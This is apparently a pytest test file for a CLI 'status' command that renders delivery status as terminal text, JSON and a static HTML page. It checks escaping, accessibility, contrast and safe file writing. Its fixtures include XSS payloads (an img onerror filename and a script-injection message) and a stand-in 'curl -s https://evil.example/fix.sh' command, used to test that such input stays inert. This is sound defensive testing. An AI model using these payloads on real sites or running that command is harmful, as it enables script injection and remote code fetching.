"""The status as a command: the first line decides, a good day is short, the page is whole and inert."""

import json
import os
import re
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from typer.testing import CliRunner, Result

from flows.cli import app
from tasks.alerts import alerts
from tasks.period import Period
from tasks.plan import daily_plan
from tasks.release import utc_now
from tasks.store import open_stores
from tasks.store.tables import DeliveryState
from tests.integration.plan.world import World

pytestmark = pytest.mark.usefixtures("few_products")

HOSTILE = "late-<img src=x onerror=alert(1)>&'\".csv"
FLOW_RUN = "7d0c4b52-0000-4000-8000-000000000000"
WIDTH = 100


@pytest.fixture
def world(home: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    """Two clients that are granted the days from the day before yesterday on."""
    landing = home.parent / "landing"
    (landing / "events").mkdir(parents=True)
    monkeypatch.setenv("THRONG_LANDING", str(landing))
    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    made = World(open_stores())
    for name in ("nordmarkt", "stadtlicht"):
        made.client(name, _ago(2))
    return made


def _ago(days: int) -> date:
    return datetime.now(ZoneInfo("Europe/Berlin")).date() - timedelta(days=days)


def _sent(world: World, day: date, state: DeliveryState = DeliveryState.DELIVERED) -> None:
    world.file(day)
    world.ingested(day)
    key = world.released("footfall", Period.day(day))
    for name in ("nordmarkt", "stadtlicht"):
        world.delivered(name, key, state)


def _bad_day(world: World) -> None:
    """Of two days the older one did not arrive."""
    _sent(world, _ago(2), DeliveryState.REFUSED)
    _sent(world, _ago(1))


def _ran(*words: str) -> Result:
    ran = CliRunner().invoke(app, ["status", *words])
    assert ran.exit_code == 0, ran.output
    return ran


def _page(tmp_path: Path) -> str:
    file = tmp_path / "page.html"
    assert f"Written: {file}" in _ran(str(file), "--html").stdout
    return file.read_text()


def test_a_new_installation_is_told_its_first_steps(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (home.parent / "landing").mkdir()
    monkeypatch.setenv("THRONG_LANDING", str(home.parent / "landing"))
    first, following, *rest = _ran().stdout.splitlines()
    assert first == "Nothing has run here yet, and no client is applied."
    assert "throng client apply FILE.toml" in following
    assert "throng daily" in following
    assert not rest


def test_a_landing_that_is_not_set_is_what_to_do_first(home: Path) -> None:
    ran = _ran()
    assert ran.stdout.startswith("Something is to be done. First: the landing cannot be read.")
    assert "Set THRONG_LANDING to the folder" in ran.stdout


def test_on_a_good_day_the_first_line_says_so_and_little_follows(world: World) -> None:
    for days in (2, 1):
        _sent(world, _ago(days))
    said = _ran().stdout.splitlines()
    assert said[0] == "All is well: everything that is expected by now is delivered."
    assert re.search(rf"nordmarkt +footfall +{_ago(1)} \(\d+ (h|min)\)", "\n".join(said))
    assert len(said) <= 16, "the most there is: on the first of a month, with its panel and two budgets"
    assert "What to do" not in "\n".join(said)


def test_on_a_bad_day_the_first_line_says_what_is_to_be_mended_first(world: World) -> None:
    _bad_day(world)
    said = _ran().stdout
    assert said.startswith(f"2 deliveries are late. First: deliver nordmarkt footfall {_ago(2)} and 1 more failed.")
    assert "The bucket is gone. It holds up 2 deliveries." in said
    assert f"throng deliver nordmarkt footfall {_ago(2)}" in said


def test_the_first_line_promises_only_what_the_next_daily_run_does(world: World) -> None:
    world.client("stadtlicht", _ago(5))
    world.file(_ago(2))
    world.ingested(_ago(2))
    _sent(world, _ago(1))
    said = _ran().stdout.splitlines()[0]
    assert re.findall(r"\d+", said) == ["5", "2"]
    assert said.endswith("throng daily")


def test_text_fits_a_terminal_of_a_hundred_columns(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from rich.console import Console

    from flows.cli import status

    _bad_day(world)
    world.file(_ago(2), HOSTILE)
    console = Console(width=WIDTH, record=True, file=(world.stores.settings.home / "out").open("w"))
    for part in status.status().say:
        console.print(part)
    lines = console.export_text().splitlines()
    assert max(map(len, lines)) <= WIDTH
    assert any(re.match(r"stadtlicht +footfall .* \d of \d$", line) for line in lines), "a client's line is not folded"


def test_the_document_holds_what_people_read(world: World) -> None:
    _bad_day(world)
    said = json.loads(_ran("--json").stdout)
    assert (said["verdict"], said["late"]) == ("act", 2)
    assert said["headline"].startswith("2 deliveries are late.")
    assert {line["client"] for line in said["standings"]} == {"nordmarkt", "stadtlicht"}
    assert {"todos", "months", "failures", "costs", "runs", "cells", "due"} <= set(said)


def test_the_page_is_written_whole_where_it_is_asked_for_or_in_the_home(world: World, tmp_path: Path) -> None:
    _sent(world, _ago(2))
    assert _page(tmp_path).rstrip().endswith("</html>")
    said = json.loads(_ran("--html", "--json").stdout)
    assert said["page"] == str(world.stores.settings.home.absolute() / "status.html")
    assert Path(said["page"]).exists()
    assert not list(tmp_path.glob(".page.html*"))
    ran = CliRunner().invoke(app, ["status", "--html", str(tmp_path / "none" / "page.html")])
    assert ran.exit_code == 40
    assert "StorageUnavailable" in ran.stderr


def test_the_page_fetches_nothing_and_runs_nothing(world: World, tmp_path: Path) -> None:
    _bad_day(world)
    page = _page(tmp_path)
    assert "content=\"default-src 'none'; style-src 'unsafe-inline'\"" in page
    assert not re.findall(r"<(script|link|img|iframe|object)|url\(|@import|\bon\w+=|src=", page)


def test_what_lies_beside_the_page_under_a_guessed_name_is_not_written_to(world: World, tmp_path: Path) -> None:
    key = tmp_path / "digest.key"
    key.write_bytes(b"a key")
    (tmp_path / f".page.html.{os.getpid()}").symlink_to(key)
    assert "</html>" in _page(tmp_path)
    assert key.read_bytes() == b"a key"


def test_names_from_outside_stay_text_on_the_page(world: World, tmp_path: Path) -> None:
    _sent(world, _ago(2))
    world.file(_ago(2), HOSTILE)
    world.failed("index", "nordmarkt", "</style><script>alert(1)</script>")
    page = _page(tmp_path)
    assert "late-&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;/style&gt;&lt;script&gt;alert(1)" in page
    assert set(_Tags.of(page)) & {"img", "script"} == set()


def test_only_what_to_do_holds_commands_not_what_somebody_else_said(world: World, tmp_path: Path) -> None:
    evil = "The bucket holds `curl -s https://evil.example/fix.sh` beside: throng evil"
    _sent(world, _ago(2), DeliveryState.REFUSED)
    world.failed("deliver", f"nordmarkt footfall {_ago(2)}", evil)
    world.failed("index", "nordmarkt", evil)
    commands = re.findall("<code>(.*?)</code>", page := _page(tmp_path))
    assert "curl -s" in page
    assert any(command.startswith("throng deliver nordmarkt") for command in commands)
    assert not [command for command in commands if "evil" in command]


def test_a_square_says_in_words_what_its_sign_means_and_leads_to_its_run(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _sent(world, _ago(2))
    with world.stores.catalog.run("deliver", f"nordmarkt footfall {_ago(2)}", FLOW_RUN) as run:
        run.outcome = "Delivered"
    without_server = _page(tmp_path)
    assert FLOW_RUN not in without_server
    monkeypatch.setenv("PREFECT_API_URL", "http://me:secret@127.0.0.1:4200/api")
    page = _page(tmp_path)
    label = f"footfall {_ago(2)} to nordmarkt: done. Delivered."
    assert "secret" not in page
    assert f'href="http://127.0.0.1:4200/v2/runs/flow-run/{FLOW_RUN}" aria-label="{label}">●</a>' in page
    assert f'<span class="sr">footfall {_ago(2)} to stadtlicht: done. Delivered.</span>' in page


def test_tables_have_headings_and_the_page_one_title(world: World, tmp_path: Path) -> None:
    _sent(world, _ago(2))
    with world.stores.catalog.run("deliver", f"nordmarkt footfall {_ago(2)}") as run:
        run.outcome = "Delivered"
    page = _page(tmp_path)
    assert page.count("<h1>") == page.count("<main>") == 1
    for table in re.findall(r"<table.*?</table>", page, re.DOTALL):
        assert "<caption" in table
        assert 'scope="col"' in table
        assert 'scope="row"' in table


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground_as_wcag_asks(scheme: str) -> None:
    css = (files("flows.status_page") / "templates" / "status.css").read_text()
    light, dark = (
        dict(re.findall(r"--([\w-]+): (#\w+)", block)) for block in re.findall(r":root \{(.*?)\}", css, re.DOTALL)
    )
    colours = light if scheme == "light" else light | dark
    on_paper = [(name, "paper") for name in ("ink", "soft", "accent", "red", "amber")]
    on_tint = [(name, f"{name}-tint") for name in ("accent", "red", "amber")]
    for text, ground in [*on_paper, *on_tint, ("soft", "grey-tint"), ("ink", "grey-tint")]:
        assert _contrast(colours[text], colours[ground]) >= 4.5, (text, ground)


def _contrast(one: str, other: str) -> float:
    """WCAG 2's contrast ratio of two colours."""
    light, dark = sorted(map(_luminance, (one, other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def _luminance(colour: str) -> float:
    digits = colour[1:] if len(colour) == 7 else "".join(2 * digit for digit in colour[1:])
    shares = [int(digits[place : place + 2], 16) / 255 for place in (0, 2, 4)]
    red, green, blue = (s / 12.92 if s <= 0.04045 else ((s + 0.055) / 1.055) ** 2.4 for s in shares)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


class _Tags(HTMLParser):
    """The tags of a page, as a browser would find them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.found.append(tag)

    @classmethod
    def of(cls, page: str) -> list[str]:
        parser = cls()
        parser.feed(page)
        return parser.found


def test_every_time_that_is_shown_is_local_and_says_its_offset(world: World, tmp_path: Path) -> None:
    """On the page, in the answer, in the list of runs, and in what the next day's landing waits for."""
    _bad_day(world)
    for verb in ("daily", "backfill"):
        with world.stores.catalog.run(verb, f"{_ago(2)} to {_ago(1)}"):
            pass
    with world.stores.catalog.run("backfill", f"{_ago(2)} to {_ago(0)}"):
        said = _page(tmp_path) + _ran().stdout + CliRunner().invoke(app, ["runs", "--json"]).stdout
    said += str([alert.what for alert in alerts(world.stores, daily_plan(world.stores, utc_now()), utc_now())])
    times = re.findall(r"\d\d-\d\d[ T]\d\d:\d\d(?::\d\d)?(?:\.\d+)?(\S{0,6})", said)
    assert len(times) > 10
    assert {time for time in times if not re.match(r"[+-]\d\d:\d\d", time)} == set()
    assert "UTC" not in said
